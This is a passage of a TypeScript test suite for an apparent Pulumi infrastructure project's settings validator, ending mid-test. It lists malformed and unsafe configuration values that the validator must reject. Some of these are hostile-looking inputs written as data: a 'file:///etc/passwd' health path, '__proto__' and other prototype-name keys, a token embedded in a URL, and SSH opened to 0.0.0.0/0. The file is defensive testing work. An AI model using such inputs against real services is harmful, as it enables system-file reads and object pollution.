import { strict as assert } from "assert";
import * as fs from "fs";
import * as path from "path";
import * as YAML from "yaml";
import { secretAwareError, SettingError, settingErrorBlock } from "../components/errors";
import { readStackFile } from "../components/stackFile";
import { readSettings, SETTING_KEYS, STACK_BRANCHES } from "../components/settings";
import { fleetZoneSpreadRule } from "../components/settingsSchema";
import { runOffline } from "../tools/offlineRun";
import { loadStackConfig, REPO_ROOT, StackConfig } from "../tools/stackConfig";
import { configSource } from "./helpers";
import { ecdsaPublicLine, ed25519Key, encryptedPem, openSshEd25519, rsaKey } from "./support/sshTestKeys";

const NS = "pakashop-infra";
const OTHER_REVISION = "0123456789abcdef0123456789abcdef01234567";
/** The retired setting's error: why it went, and the fix (components/settings.ts RETIRED_SETTINGS). */
const RETIRED_DEPLOY_CIDRS = /is no longer a setting: SSH is admitted only from the stack's in-VPC deploy runner and its EC2 Instance Connect Endpoint \(no address outside the VPC reaches port 22\)\. Fix: remove pakashop-infra:deployCidrs from Pulumi\.<stack>\.yaml/;
const CONNECTION_RULE = /must be the ARN of an AWS CodeConnections connection \(arn:aws:codeconnections:<region>:<account>:connection\/<id>\).*Fix: create the GitHub connection once in the console/;

/**
 * The stack's config with `overrides` (stack-file form) and `secrets`: values a secrets provider
 * would have decrypted (full keys to plain values; secret, and not offline placeholders).
 */
export function withSecrets(stack: string, overrides: Record<string, unknown> = {}, secrets: Record<string, string> = {}): StackConfig {
    const base = loadStackConfig(stack, overrides);
    return {
        ...base,
        config: { ...base.config, ...secrets },
        secretKeys: [...new Set([...base.secretKeys, ...Object.keys(secrets)])],
        placeholderSecrets: base.placeholderSecrets.filter((k) => !(k in secrets)),
    };
}

function settingsFor(stack: string, overrides: Record<string, unknown> = {}, secrets: Record<string, string> = {}) {
    return readSettings(configSource(withSecrets(stack, overrides, secrets)), stack);
}

const KEY = ed25519Key("deploy@test");
const OTHER_KEY = ed25519Key("other@test");
const RSA_2048 = rsaKey(2048);
const PUBLIC = `${NS}:deployPublicKey`;
const PRIVATE = `${NS}:deployPrivateKey`;
/** A real (non-placeholder) key pair: the pair check and the production placeholder rules apply. */
const PAIR = { overrides: { [PUBLIC]: KEY.publicLine }, secrets: { [PRIVATE]: KEY.pem } };
const TOKEN = "ghp_0123456789abcdefTOKEN";

/** A bad value of one setting: [what, stack file override, value shown, rule]. */
type Case = [what: string, key: string, value: unknown, shown: string, rule: RegExp, stack?: string];
const cases = (list: Case[]) => list.map(([what, key, value, shownValue, rule, stack]) => ({
    what, stack, overrides: { [`${NS}:${key}`]: value }, value: shownValue, rule,
    // A bad item of a list is named by its index, as pulumi config set --path writes it.
    setting: `${NS}:${key}${key === "runnerGithubActorIds" && Array.isArray(value) && value.length > 0 ? "[0]" : ""}`,
}));

/** Strict parsing (issue 11): each spelling its own configuration and message. */
const NEW_BAD = [
    ...cases([
        // integers are integers
        ["an integer in hexadecimal", "rootVolumeSizeGiB", "0x400", "0x400", /not hexadecimal/],
        ["an integer in exponent notation", "rootVolumeSizeGiB", "1e3", "1e3", /not in exponent notation/],
        ["an integer with a decimal point", "rootVolumeSizeGiB", "12.0", "12.0", /without a decimal point/],
        ["an integer with a leading space", "rootVolumeSizeGiB", " 40", '" 40"', /without surrounding spaces/],
        ["an integer with a leading zero", "rootVolumeSizeGiB", "040", "040", /without leading zeros/],
        ["an integer with a plus sign", "rootVolumeSizeGiB", "+40", "+40", /decimal digits/],
        ["a negative integer", "healthTimeoutSeconds", "-90", "-90", /decimal digits/],
        ["an integer as a word", "healthTimeoutSeconds", "ninety", "ninety", /decimal digits/],
        ["a root volume too large", "rootVolumeSizeGiB", 2048, "2048", /must be from 20 to 1024/],
        ["a health timeout too long", "healthTimeoutSeconds", 601, "601", /must be from 5 to 600/],
        ["four availability zones", "availabilityZoneCount", 4, "4", /must be from 2 to 3/],
        // the backend fleet (issue 13)
        ["a fleet of no backend hosts", "backendHosts", 0, "0", /must be from 1 to 12 \(every host is one more host-by-host step of every deploy\)\. Fix: set a whole number from 1 to 12/],
        ["a fleet of 13 backend hosts", "backendHosts", 13, "13", /must be from 1 to 12/],
        ["a fleet size as a word", "backendHosts", "two", "two", /decimal digits/],
        ["a fleet size with a decimal point", "backendHosts", "2.0", "2.0", /without a decimal point/],
        ["a search volume below 10 GiB", "searchVolumeSizeGiB", 5, "5", /must be from 10 to 16384/],
        ["pre-deploy dumps kept one day", "preDeployBackupRetentionDays", 1, "1", /must be from 7 to 3650/],
        ["database storage below 20 GiB", "databaseStorageGiB", 10, "10", /must be from 20 to 65536/],
        ["Redis memory in hexadecimal", "redisMaxMemoryMb", "0x400", "0x400", /not hexadecimal/],
        // booleans
        ["a boolean as True", "natGatewayPerZone", "True", "True", /true or false/],
        ["a boolean as 1", "databaseMultiAz", "1", "1", /true or false/],
        // vpcCidr canonical
        ["a VPC range with leading zeros (octal-looking)", "vpcCidr", "010.010.0.0/16", "010.010.0.0/16", /leading zeros.*Fix: write 10\.10\.0\.0\/16/],
        ["a VPC prefix with a leading zero", "vpcCidr", "10.20.0.0/016", "10.20.0.0/016", /leading zeros/],
        ["a VPC range with host bits set", "vpcCidr", "10.20.0.1/16", "10.20.0.1/16", /host bits.*Fix: write 10\.20\.0\.0\/16/],
        ["a VPC range without prefix", "vpcCidr", "10.20.0.0", "10.20.0.0", /not an IPv4 CIDR/],
        ["a VPC range with an octet above 255", "vpcCidr", "10.300.0.0/16", "10.300.0.0/16", /not a valid CIDR/],
        ["a VPC range just past 172.16/12", "vpcCidr", "172.32.0.0/16", "172.32.0.0/16", /private IPv4 range/],
        ["a VPC range in carrier-grade NAT space", "vpcCidr", "100.64.0.0/16", "100.64.0.0/16", /private IPv4 range/],
        ["a VPC range as a /8", "vpcCidr", "10.0.0.0/8", "10.0.0.0/8", /\/16 to \/20/],
        ["an IPv6 VPC range", "vpcCidr", "fd00::/48", "fd00::/48", /not an IPv4 CIDR/],
        // hostnames
        ["a hostname with a trailing dot", "frontendHostname", "staging.pakashop.store.", "staging.pakashop.store.", /must not end with a dot.*Fix: write staging\.pakashop\.store/],
        ["a hostname in upper case", "frontendHostname", "Staging.pakashop.store", "Staging.pakashop.store", /must be lower case/],
        ["a hostname with a non-ASCII letter", "apiHostname", "api-stäging.pakashop.store", "api-stäging.pakashop.store", /must be ASCII.*xn--/],
        ["a hostname with an underscore", "apiHostname", "api_staging.pakashop.store", "api_staging.pakashop.store", /only lower-case letters, digits/],
        ["a hostname label starting with '-'", "apiHostname", "-api-staging.pakashop.store", "-api-staging.pakashop.store", /every label/],
        ["a hostname with an empty label", "apiHostname", "api-staging..pakashop.store", "api-staging..pakashop.store", /every label/],
        ["a hostname with an xn-- label that is not punycode", "apiHostname", "xn--api-staging.pakashop.store", "xn--api-staging.pakashop.store", /not valid punycode/],
        ["a zone with a trailing dot", "zoneName", "pakashop.store.", "pakashop.store.", /must not end with a dot/],
        ["a zone in upper case", "zoneName", "PAKASHOP.store", "PAKASHOP.store", /must be lower case/],
        ["a zone of one label", "zoneName", "localhost", "localhost", /at least two labels/],
        // instance types and architecture
        ["a Graviton 1 backend (a1: arm64 without the g)", "instanceType", "a1.large", "a1.large", /a1 is Graviton 1/],
        ["a mac backend", "instanceType", "mac2.metal", "mac2.metal", /macOS/],
        ["a Graviton 1 search host", "searchInstanceType", "a1.xlarge", "a1.xlarge", /a1 is Graviton 1/],
        ["a Redis type whose memory is unknown", "redisInstanceType", "x2gd.large", "x2gd.large", /memory the program knows/],
        ["a Redis type with a size its family lacks", "redisInstanceType", "m6i.medium", "m6i.medium", /memory the program knows/],
        ["a Redis type whose size is an object-prototype name", "redisInstanceType", "t3.constructor", "t3.constructor", /memory the program knows/],
        ["an RDS class without db. prefix", "databaseInstanceClass", "t4g.micro", "t4g.micro", /RDS instance class/],
        // other strings
        ["a workflow repository with a path", "workflowRepository", "pakashop/pakashop-infra/tree", "pakashop/pakashop-infra/tree", /owner\/name/],
        ["a Vercel project in upper case", "vercelProjectName", "Pakashop", "Pakashop", /Vercel project name/],
        ["an ssh user in upper case", "sshUser", "Admin", "Admin", /Linux user name/],
        ["an upper-case revision", "revision", "4F1C2D8E9A7B6C5D4E3F2A1B0C9D8E7F6A5B4C3D", "4F1C2D8E9A7B6C5D4E3F2A1B0C9D8E7F6A5B4C3D", /lower-case git commit/],
        // credentials in URLs, file://
        ["a token inside a URL", "githubRepository", `https://x-access-token:${TOKEN}@github.com/pakashop/pakashop`, "https://[credentials]@github.com", /credentials inside a URL/],
        ["a user inside a URL", "meilisearchVersion", "https://deploy@example.com/v1.7.6", "https://[credentials]@example.com", /credentials inside a URL/],
        ["a file:// URL in staging", "githubRepository", "file:///srv/pakashop", "file:///srv/pakashop", /file:\/\/ URL, allowed only in test stacks/],
        ["a file:// URL in production", "workflowRepository", "file:///srv/infra", "file:///srv/infra", /not in stack production/, "production"],
        // runner ids
        ["a runner id given as login", "runnerGithubActorIds", ["octocat"], "octocat", /numeric id/],
        ["a runner id as text digits", "runnerGithubActorIds", ["583231"], '"583231"', /an integer, not a login or text/],
        ["a fractional runner id", "runnerGithubActorIds", [1.5], "1.5", /numeric id/],
        ["a negative runner id", "runnerGithubActorIds", [-1], "-1", /numeric id/],
        ["no runner ids", "runnerGithubActorIds", [], "[]", /at least one/],
        ["runner ids as one number, not a list", "runnerGithubActorIds", 583231, "583231", /at least one/],
        ["services as a list", "services", ["search"], "search", /map from service id/],
        ["services as text", "services", "search=abc", "search=abc", /not valid structured config/],
        // Only declared-secret settings may be stored encrypted (issue 11): any other would end up in plain text in plans.
        ["a non-secret setting stored encrypted is refused", "sshUser", { secure: "v1:c2VjcmV0" }, "[secret]", /sshUser = "\[secret\]": is stored encrypted, but it is not a secret setting: its value would appear in plain text in plans, state and resources.*Fix: store it plain with pulumi config set pakashop-infra:sshUser <value> \(without --secret\)/],
        ["cloudflareZoneId stored encrypted is refused", "cloudflareZoneId", { secure: "v1:c2VjcmV0" }, "[secret]", /cloudflareZoneId = "\[secret\]": is stored encrypted, but it is not a secret setting/],
        ["githubConnectionArn stored encrypted is refused", "githubConnectionArn", { secure: "v1:c2VjcmV0" }, "[secret]", /githubConnectionArn = "\[secret\]": is stored encrypted, but it is not a secret setting/],
        ["an unknown setting stored encrypted shows no value", "deployKey", { secure: "v1:c2VjcmV0" }, "[secret]", /not a setting of this program/],
        ["repositoryUrl (retired) with a token", "repositoryUrl", `https://${TOKEN}@github.com/pakashop/pakashop`, "[credentials]@github.com", /no longer a setting/],
        ["a near-miss setting name", "instanceTyp", "t3.large", "t3.large", /did you mean pakashop-infra:instanceType/],
    ]),
    // object-prototype names as service ids or fields
    ...["toString", "__proto__", "constructor", "hasOwnProperty"].map((id) => ({
        what: `a service override named ${id}`, overrides: { [`${NS}:services`]: JSON.parse(`{"${id}": {"port": 3999}}`) },
        setting: `${NS}:services.${id}`, value: id, rule: /object-prototype name/,
    })),
    { what: "an override field named constructor", overrides: { [`${NS}:services`]: { search: JSON.parse('{"constructor": "x"}') } }, setting: `${NS}:services.search.constructor`, value: "constructor", rule: /object-prototype name/ },
    { what: "a fractional port", overrides: { [`${NS}:services`]: { search: { port: 3005.5 } } }, setting: `${NS}:services.search.port`, value: "3005.5", rule: /integer port/ },
    { what: "a health path as file URL", overrides: { [`${NS}:services`]: { search: { healthPath: "file:///etc/passwd" } } }, setting: `${NS}:services.search.healthPath`, value: "file:///etc/passwd", rule: /allowed only in test stacks/ },
    // keys in no namespace, or in one nothing reads (issue 11)
    { what: "a setting in a short project namespace", overrides: { "pakashop:instanceType": "t3.large" }, setting: "pakashop:instanceType", value: "[not read]", rule: /neither the project's.*Fix: rename it to pakashop-infra:instanceType/ },
    { what: "a setting in the stack's name as namespace", overrides: { "pakashop-infra-prod:instanceType": "t3.large" }, setting: "pakashop-infra-prod:instanceType", value: "[not read]", rule: /Fix: rename it to pakashop-infra:instanceType/ },
    { what: "a setting without a namespace", overrides: { instanceType: "t3.large" }, setting: "instanceType", value: "[not read]", rule: /has no namespace.*Fix: rename it to pakashop-infra:instanceType/ },
    { what: "an unknown key in an unknown namespace", overrides: { "acme:thing": "x" }, setting: "acme:thing", value: "[not read]", rule: /neither the project's.*Fix: write it as pakashop-infra:<setting> or <provider>:<key>/ },
    // object-prototype names as top-level settings (issue 11)
    ...["constructor", "toString", "hasOwnProperty", "__proto__"].map((key) => ({
        what: `a top-level setting named ${key}`, overrides: { [`${NS}:${key}`]: "x" }, setting: `${NS}:${key}`, value: "x", rule: /is not a setting of this program/,
    })),
    // keys outside the namespace that look like a typo of it
    ...["pakashop-infr", "pakashop_infra", "Pakashop-Infra", "pakashopinfra", "pakashop-infraa", "pakshop-infra"].map((ns) => ({
        what: `a setting in the misspelt namespace ${ns}`, overrides: { [`${ns}:branch`]: "main" }, setting: `${ns}:branch`, value: "[not read]", rule: /looks like a misspelling of it.*Fix: rename it to pakashop-infra:branch/,
    })),
    // SSH keys: type, size, passphrase, pair
    { what: "an ECDSA deploy key", overrides: { [PUBLIC]: ecdsaPublicLine() }, setting: PUBLIC, value: "ecdsa-sha2-nistp256", rule: /ssh-ed25519 or RSA of at least 3072 bits/ },
    { what: "an RSA deploy key of 2048 bits", overrides: { [PUBLIC]: RSA_2048.publicLine }, setting: PUBLIC, value: "ssh-rsa", rule: /RSA key of 2048 bits/ },
    { what: "a public key line whose type lies", overrides: { [PUBLIC]: KEY.publicLine.replace(/^ssh-ed25519/, "ssh-rsa") }, setting: PUBLIC, value: "ssh-rsa", rule: /says ssh-rsa but holds a ssh-ed25519 key/ },
    { what: "a public key with truncated base64", overrides: { [PUBLIC]: "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAA" }, setting: PUBLIC, value: "ssh-ed25519 AAAA", rule: /truncated|public key/ },
    { what: "a private key that is not a key", overrides: PAIR.overrides, secrets: { [PRIVATE]: "-----BEGIN OPENSSH PRIVATE KEY-----\nbm90IGEga2V5\n-----END OPENSSH PRIVATE KEY-----\n" }, setting: PRIVATE, value: "[secret]", rule: /not a valid private key/ },
    { what: "a private key that is free text", overrides: PAIR.overrides, secrets: { [PRIVATE]: "hunter2" }, setting: PRIVATE, value: "[secret]", rule: /not a PEM or OpenSSH private key/ },
    { what: "a PEM private key with a passphrase", overrides: PAIR.overrides, secrets: { [PRIVATE]: encryptedPem(KEY) }, setting: PRIVATE, value: "[secret]", rule: /passphrase.*Fix: remove it \(ssh-keygen -p/ },
    { what: "an OpenSSH private key with a passphrase", overrides: PAIR.overrides, secrets: { [PRIVATE]: openSshEd25519(KEY, { cipher: "aes256-ctr" }) }, setting: PRIVATE, value: "[secret]", rule: /passphrase \(cipher aes256-ctr\)/ },
    { what: "an OpenSSH private key whose seed is not its public key's", overrides: PAIR.overrides, secrets: { [PRIVATE]: openSshEd25519(KEY, { corruptSeed: true }) }, setting: PRIVATE, value: "[secret]", rule: /seed does not derive/ },
    { what: "a PEM private key of another pair", overrides: PAIR.overrides, secrets: { [PRIVATE]: OTHER_KEY.pem }, setting: PRIVATE, value: "[secret]", rule: /not the private half of deployPublicKey/ },
    { what: "an OpenSSH private key of another pair", overrides: PAIR.overrides, secrets: { [PRIVATE]: openSshEd25519(OTHER_KEY) }, setting: PRIVATE, value: "[secret]", rule: /not the private half/ },
    { what: "an RSA private key for an ed25519 public key", overrides: PAIR.overrides, secrets: { [PRIVATE]: RSA_2048.pem }, setting: PRIVATE, value: "[secret]", rule: /not the private half/ },
    // Redis memory against the instance
    { what: "Redis maxmemory above 75% of t3.small", overrides: { [`${NS}:redisMaxMemoryMb`]: 2048 }, setting: `${NS}:redisMaxMemoryMb`, value: "2048", rule: /t3\.small \(2048 MiB\).*at most 1536.*Fix: set it to 1536 or less/ },
    { what: "production Redis maxmemory above r6i.large", stack: "production", overrides: { [`${NS}:redisMaxMemoryMb`]: 16384 }, setting: `${NS}:redisMaxMemoryMb`, value: "16384", rule: /r6i\.large \(16384 MiB\)/ },
    { what: "Redis shrunk below its maxmemory", overrides: { [`${NS}:redisInstanceType`]: "t3.micro" }, setting: `${NS}:redisMaxMemoryMb`, value: "1024", rule: /t3\.micro \(1024 MiB\).*at most 768/ },
    // placeholders in production (a run with real secrets, i.e. not an offline plan)
    { what: "the all-zero checksum in a production deploy", stack: "production", overrides: PAIR.overrides, secrets: PAIR.secrets, setting: `${NS}:meilisearchSha256`, value: "0000000000", rule: /all-zero placeholder/ },
];

/**
 * Bad configurations: each names the setting it must report, the value the message must
 * repeat, and the rule. Every message must also carry a fix.
 */
const BAD: { what: string; stack?: string; overrides: Record<string, unknown>; secrets?: Record<string, string>; setting: string; value: string; rule: RegExp }[] = [
    { what: "production deploying main", stack: "production", overrides: { [`${NS}:branch`]: "main" }, setting: `${NS}:branch`, value: '"main"', rule: /stack production deploys branch production/ },
    { what: "staging deploying production", overrides: { [`${NS}:branch`]: "production" }, setting: `${NS}:branch`, value: '"production"', rule: /stack staging deploys branch main/ },
    { what: "a branch name git refuses", overrides: { [`${NS}:branch`]: "main..x" }, setting: `${NS}:branch`, value: "main..x", rule: /not a valid git branch name/ },
    { what: "a missing revision", overrides: { [`${NS}:revision`]: undefined }, setting: `${NS}:revision`, value: "(not set)", rule: /is required.*Fix: pulumi config set pakashop-infra:revision/ },
    { what: "a short revision", overrides: { [`${NS}:revision`]: "4f1c2d8" }, setting: `${NS}:revision`, value: "4f1c2d8", rule: /full 40-character/ },
    { what: "a branch name as revision", overrides: { [`${NS}:revision`]: "HEAD" }, setting: `${NS}:revision`, value: "HEAD", rule: /full 40-character/ },
    { what: "an unknown service", overrides: { [`${NS}:services`]: { serach: { revision: OTHER_REVISION } } }, setting: `${NS}:services.serach`, value: OTHER_REVISION, rule: /not a service of the catalog/ },
    { what: "an unknown override field", overrides: { [`${NS}:services`]: { search: { language: "rust" } } }, setting: `${NS}:services.search.language`, value: "rust", rule: /not a field a stack may override/ },
    { what: "a bad service revision", overrides: { [`${NS}:services`]: { search: { revision: "main" } } }, setting: `${NS}:services.search.revision`, value: "main", rule: /full 40-character/ },
    { what: "a duplicate port", overrides: { [`${NS}:services`]: { search: { port: 3006 } } }, setting: `${NS}:services.fraud.port`, value: "3006", rule: /also used by search/ },
    { what: "a port as text", overrides: { [`${NS}:services`]: { search: { port: "3005" } } }, setting: `${NS}:services.search.port`, value: '"3005"', rule: /must be an integer port number/ },
    { what: "an unknown tier", overrides: { [`${NS}:services`]: { search: { tier: "edge" } } }, setting: `${NS}:services.search.tier`, value: "edge", rule: /must be one of config, gateway, core, supporting/ },
    // deployCidrs is retired (issue 10): SSH comes from the in-VPC runner and the Instance
    // Connect Endpoint only. Any value of it, even the old valid ones, gets the reason and the fix.
    ...([
        ["deployCidrs set to an empty list", [], "[]"],
        ["deployCidrs set to a documentation range (once valid)", ["203.0.113.0/24"], "203.0.113.0/24"],
        ["deployCidrs opening SSH to 0.0.0.0/0", ["203.0.113.0/24", "0.0.0.0/0"], "0.0.0.0/0"],
        ["deployCidrs opening SSH to ::/0", ["::/0"], "::/0"],
        ["deployCidrs as a single string", "203.0.113.0/24", "203.0.113.0/24"],
        ["deployCidrs as a secret", { secure: "v1:x" }, "[secret]"],
    ] as const).map(([what, value, shown]) => ({ what, overrides: { [`${NS}:deployCidrs`]: value }, setting: `${NS}:deployCidrs`, value: shown, rule: RETIRED_DEPLOY_CIDRS })),
    { what: "deployCidrs in production", stack: "production", overrides: { [`${NS}:deployCidrs`]: ["198.51.100.0/24"] }, setting: `${NS}:deployCidrs`, value: "198.51.100.0/24", rule: RETIRED_DEPLOY_CIDRS },
    { what: "a GitHub connection of another service", overrides: { [`${NS}:githubConnectionArn`]: "arn:aws:codebuild:ap-south-1:111111111111:connection/00000000-0000-4000-8000-000000000000" },
        setting: `${NS}:githubConnectionArn`, value: "arn:aws:codebuild:ap-south-1:111111111111:connection/", rule: CONNECTION_RULE },
    { what: "a GitHub connection with an 11-digit account", overrides: { [`${NS}:githubConnectionArn`]: "arn:aws:codeconnections:ap-south-1:11111111111:connection/00000000-0000-4000-8000-000000000000" },
        setting: `${NS}:githubConnectionArn`, value: "arn:aws:codeconnections:ap-south-1:11111111111:connection/", rule: CONNECTION_RULE },
    { what: "a GitHub connection with a 13-digit account", stack: "production", overrides: { [`${NS}:githubConnectionArn`]: "arn:aws:codeconnections:ap-south-1:2222222222222:connection/00000000-0000-4000-8000-000000000000" },
        setting: `${NS}:githubConnectionArn`, value: "2222222222222", rule: CONNECTION_RULE },
    { what: "a GitHub connection given by name, not ARN", overrides: { [`${NS}:githubConnectionArn`]: "pakashop-github" },
        setting: `${NS}:githubConnectionArn`, value: "pakashop-github", rule: CONNECTION_RULE },
    { what: "a GitHub connection ARN without its id", overrides: { [`${NS}:githubConnectionArn`]: "arn:aws:codeconnections:ap-south-1:111111111111:connection/" },
        setting: `${NS}:githubConnectionArn`, value: "arn:aws:codeconnections:ap-south-1:111111111111:connection/", rule: CONNECTION_RULE },
    { what: "a missing GitHub connection", overrides: { [`${NS}:githubConnectionArn`]: undefined }, setting: `${NS}:githubConnectionArn`, value: "(not set)", rule: /is required.*Fix: create the GitHub connection once in the console/ },
    { what: "a missing deploy public key", overrides: { [`${NS}:deployPublicKey`]: undefined }, setting: `${NS}:deployPublicKey`, value: "(not set)", rule: /is required/ },
    { what: "a private key pasted as public key", overrides: { [`${NS}:deployPublicKey`]: "-----BEGIN OPENSSH PRIVATE KEY-----" }, setting: `${NS}:deployPublicKey`, value: "BEGIN OPENSSH", rule: /one OpenSSH public key line/ },
    { what: "a missing deploy private key", overrides: { [`${NS}:deployPrivateKey`]: undefined }, setting: `${NS}:deployPrivateKey`, value: "(not set)", rule: /is required.*--secret/ },
    { what: "a private key in plain text", overrides: { [`${NS}:deployPrivateKey`]: "-----BEGIN OPENSSH PRIVATE KEY-----\nabc\n-----END OPENSSH PRIVATE KEY-----\n" }, setting: `${NS}:deployPrivateKey`, value: "[plain text]", rule: /stored encrypted/ },
    { what: "a bad instance type", overrides: { [`${NS}:instanceType`]: "t3-large" }, setting: `${NS}:instanceType`, value: "t3-large", rule: /must be an EC2 instance type/ },
    ...NEW_BAD,
    { what: "a root volume too small", overrides: { [`${NS}:rootVolumeSizeGiB`]: 8 }, setting: `${NS}:rootVolumeSizeGiB`, value: "8", rule: /must be from 20 to 1024/ },
    { what: "a fractional health timeout", overrides: { [`${NS}:healthTimeoutSeconds`]: 2.5 }, setting: `${NS}:healthTimeoutSeconds`, value: "2.5", rule: /without a decimal point/ },
    { what: "an ssh user with a space", overrides: { [`${NS}:sshUser`]: "ad min" }, setting: `${NS}:sshUser`, value: "ad min", rule: /Linux user name/ },
    { what: "a VPC range that is not CIDR", overrides: { [`${NS}:vpcCidr`]: "10.20.0.0/99" }, setting: `${NS}:vpcCidr`, value: "10.20.0.0/99", rule: /not a valid CIDR/ },
    { what: "a public VPC range", overrides: { [`${NS}:vpcCidr`]: "8.8.0.0/16" }, setting: `${NS}:vpcCidr`, value: "8.8.0.0/16", rule: /private IPv4 range/ },
    { what: "a VPC too small for its subnets", overrides: { [`${NS}:vpcCidr`]: "10.20.0.0/24" }, setting: `${NS}:vpcCidr`, value: "10.20.0.0/24", rule: /\/16 to \/20/ },
    { what: "a single availability zone", overrides: { [`${NS}:availabilityZoneCount`]: 1 }, setting: `${NS}:availabilityZoneCount`, value: "1", rule: /must be from 2 to 3/ },
    { what: "backups kept below the minimum", overrides: { [`${NS}:databaseBackupRetentionDays`]: 3 }, setting: `${NS}:databaseBackupRetentionDays`, value: "3", rule: /must be from 7 to 35/ },
    { what: "a production fleet of one backend host", stack: "production", overrides: { [`${NS}:backendHosts`]: 1 }, setting: `${NS}:backendHosts`, value: "1",
        rule: /^pakashop-infra:backendHosts = "1": production runs at least 2 backend hosts in 2 availability zones, so a lost host or zone leaves one serving and a rolling deploy never takes the API down\. Fix: set pakashop-infra:backendHosts: 2 in Pulumi\.production\.yaml$/ },
    { what: "a production fleet left to a setting of 0", stack: "production", overrides: { [`${NS}:backendHosts`]: 0 }, setting: `${NS}:backendHosts`, value: "0", rule: /must be from 1 to 12/ },
    { what: "production backups kept 14 days", stack: "production", overrides: { [`${NS}:databaseBackupRetentionDays`]: 14 }, setting: `${NS}:databaseBackupRetentionDays`, value: "14", rule: /at least 30 days/ },
    { what: "a production stack without deletion protection", stack: "production", overrides: { [`${NS}:databaseDeletionProtection`]: false }, setting: `${NS}:databaseDeletionProtection`, value: "false", rule: /protected from deletion/ },
    { what: "a production database without Multi-AZ", stack: "production", overrides: { [`${NS}:databaseMultiAz`]: false }, setting: `${NS}:databaseMultiAz`, value: "false", rule: /Multi-AZ/ },
    { what: "a storage ceiling below the storage", overrides: { [`${NS}:databaseMaxStorageGiB`]: 30, [`${NS}:databaseStorageGiB`]: 50 }, setting: `${NS}:databaseMaxStorageGiB`, value: "30", rule: /at least databaseStorageGiB \(50\)/ },
    { what: "deletion protection as text", overrides: { [`${NS}:databaseDeletionProtection`]: "yes" }, setting: `${NS}:databaseDeletionProtection`, value: "yes", rule: /true or false/ },
    { what: "an unknown Redis eviction policy", overrides: { [`${NS}:redisEvictionPolicy`]: "lru" }, setting: `${NS}:redisEvictionPolicy`, value: "lru", rule: /must be one of noeviction, allkeys-lru/ },
    { what: "Meilisearch at latest", overrides: { [`${NS}:meilisearchVersion`]: "latest" }, setting: `${NS}:meilisearchVersion`, value: "latest", rule: /pinned release tag/ },
    { what: "a checksum that is not SHA-256", overrides: { [`${NS}:meilisearchSha256`]: "abc123" }, setting: `${NS}:meilisearchSha256`, value: "abc123", rule: /64 lower-case hex/ },
    { what: "a domain outside the zone", overrides: { [`${NS}:frontendHostname`]: "staging.pakashop.com" }, setting: `${NS}:frontendHostname`, value: "staging.pakashop.com", rule: /must be in the zone pakashop\.store/ },
    { what: "a hostname two levels deep", overrides: { [`${NS}:apiHostname`]: "api.staging.pakashop.store" }, setting: `${NS}:apiHostname`, value: "api.staging.pakashop.store", rule: /universal certificate covers.*Fix: use api-staging\.pakashop\.store/ },
    { what: "a staging hostname that production could claim", overrides: { [`${NS}:apiHostname`]: "api.pakashop.store" }, setting: `${NS}:apiHostname`, value: "api.pakashop.store", rule: /carries the stack name.*Fix: use api-staging\.pakashop\.store/ },
    { what: "the API on the zone apex", stack: "production", overrides: { [`${NS}:apiHostname`]: "pakashop.store", [`${NS}:frontendHostname`]: "www.pakashop.store" }, setting: `${NS}:apiHostname`, value: "pakashop.store", rule: /not be the zone apex/ },
    { what: "a malformed zone id", overrides: { [`${NS}:cloudflareZoneId`]: "pakashop.store" }, setting: `${NS}:cloudflareZoneId`, value: "pakashop.store", rule: /32-character id/ },
    { what: "a GitHub repository without owner", overrides: { [`${NS}:githubRepository`]: "pakashop" }, setting: `${NS}:githubRepository`, value: "pakashop", rule: /owner\/name/ },
    { what: "a misspelt setting", overrides: { [`${NS}:deployCidr`]: ["203.0.113.0/24"] }, setting: `${NS}:deployCidr`, value: "203.0.113.0/24", rule: /not a setting.*did you mean|not a setting/ },
    { what: "a setting in the wrong case", overrides: { [`${NS}:githubConnectionARN`]: "arn:aws:codeconnections:ap-south-1:111111111111:connection/00000000-0000-4000-8000-000000000000" },
        setting: `${NS}:githubConnectionARN`, value: "arn:aws:codeconnections", rule: /is not a setting of this program\. Fix: did you mean pakashop-infra:githubConnectionArn\?/ },
];

describe("stack settings", () => {
    it("reads staging: branch main, one revision for all 19 services, its own GitHub connection and OIDC provider, no SSH address ranges", () => {
        const s = settingsFor("staging");
        assert.equal(s.branch, "main");
        assert.deepEqual(new Set(Object.values(s.serviceRevisions)), new Set(["4f1c2d8e9a7b6c5d4e3f2a1b0c9d8e7f6a5b4c3d"]));
        assert.equal(Object.keys(s.serviceRevisions).length, 19);
        assert.deepEqual(s.platform.ci, {
            createGithubOidcProvider: true,
            githubConnectionArn: "arn:aws:codeconnections:ap-south-1:111111111111:connection/00000000-0000-4000-8000-000000000000",
            runnerGithubActorIds: [0],
        });
        assert.equal("deployCidrs" in s, false, "deployCidrs is retired");
        assert.equal(s.architecture, "x86_64");
        assert.equal(s.healthTimeoutSeconds, 90); // Pulumi.yaml default
    });

    it("accepts a connection made before the CodeStar Connections rename (codestar-connections service name)", () => {
        const arn = "arn:aws:codestar-connections:ap-south-1:111111111111:connection/0a1b2c3d-4e5f-4a6b-8c7d-9e0f1a2b3c4d";
        assert.equal(settingsFor("staging", { [`${NS}:githubConnectionArn`]: arn }).platform.ci.githubConnectionArn, arn);
    });

    it("deployCidrs is no setting any more: not declared in Pulumi.yaml, not set by either stack file", () => {
        assert.ok(!(SETTING_KEYS as readonly string[]).includes("deployCidrs"));
        const project = YAML.parse(fs.readFileSync(path.join(REPO_ROOT, "Pulumi.yaml"), "utf8"));
        assert.equal(project.config.deployCidrs, undefined);
        for (const stack of Object.keys(STACK_BRANCHES)) {
            assert.equal(loadStackConfig(stack).config[`${NS}:deployCidrs`], undefined, `Pulumi.${stack}.yaml still sets deployCidrs`);
        }
    });

    it("reads production: branch production, its own sizes, its own GitHub connection and OIDC provider", () => {
        const s = settingsFor("production");
        assert.equal(s.branch, STACK_BRANCHES.production);
        assert.deepEqual(s.platform.ci, {
            createGithubOidcProvider: true,
            githubConnectionArn: "arn:aws:codeconnections:ap-south-1:222222222222:connection/00000000-0000-4000-8000-000000000000",
            runnerGithubActorIds: [0],
        });
        assert.equal(s.instanceType, "m6i.xlarge");
        assert.equal(s.rootVolumeSizeGiB, 80);
    });

    it("reads the fleet size: staging 1, production 2, 2 when unset; production accepts more than 2", () => {
        assert.equal(settingsFor("staging").backendHosts, 1);
        assert.equal(settingsFor("production").backendHosts, 2);
        assert.equal(settingsFor("staging", { [`${NS}:backendHosts`]: undefined }).backendHosts, 2);
        assert.equal(settingsFor("production", { [`${NS}:backendHosts`]: 3 }).backendHosts, 3);
